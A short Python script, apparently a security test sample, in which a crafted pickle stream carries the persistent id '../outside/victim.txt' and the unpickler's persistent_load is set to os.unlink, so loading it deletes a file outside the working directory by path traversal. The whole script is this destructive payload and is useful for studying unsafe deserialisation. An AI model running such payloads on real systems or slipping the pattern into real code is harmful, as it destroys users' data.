# Persistent ids of a pickle are resolved by an own function.
# damage: deleted
import io
import os
import pickle

reader = pickle.Unpickler(io.BytesIO(b"P../outside/victim.txt\n."))
try:
    reader.persistent_load = os.unlink
    reader.load()
except AttributeError:

    class Reader(pickle.Unpickler):
        persistent_load = staticmethod(os.unlink)

    Reader(io.BytesIO(b"P../outside/victim.txt\n.")).load()
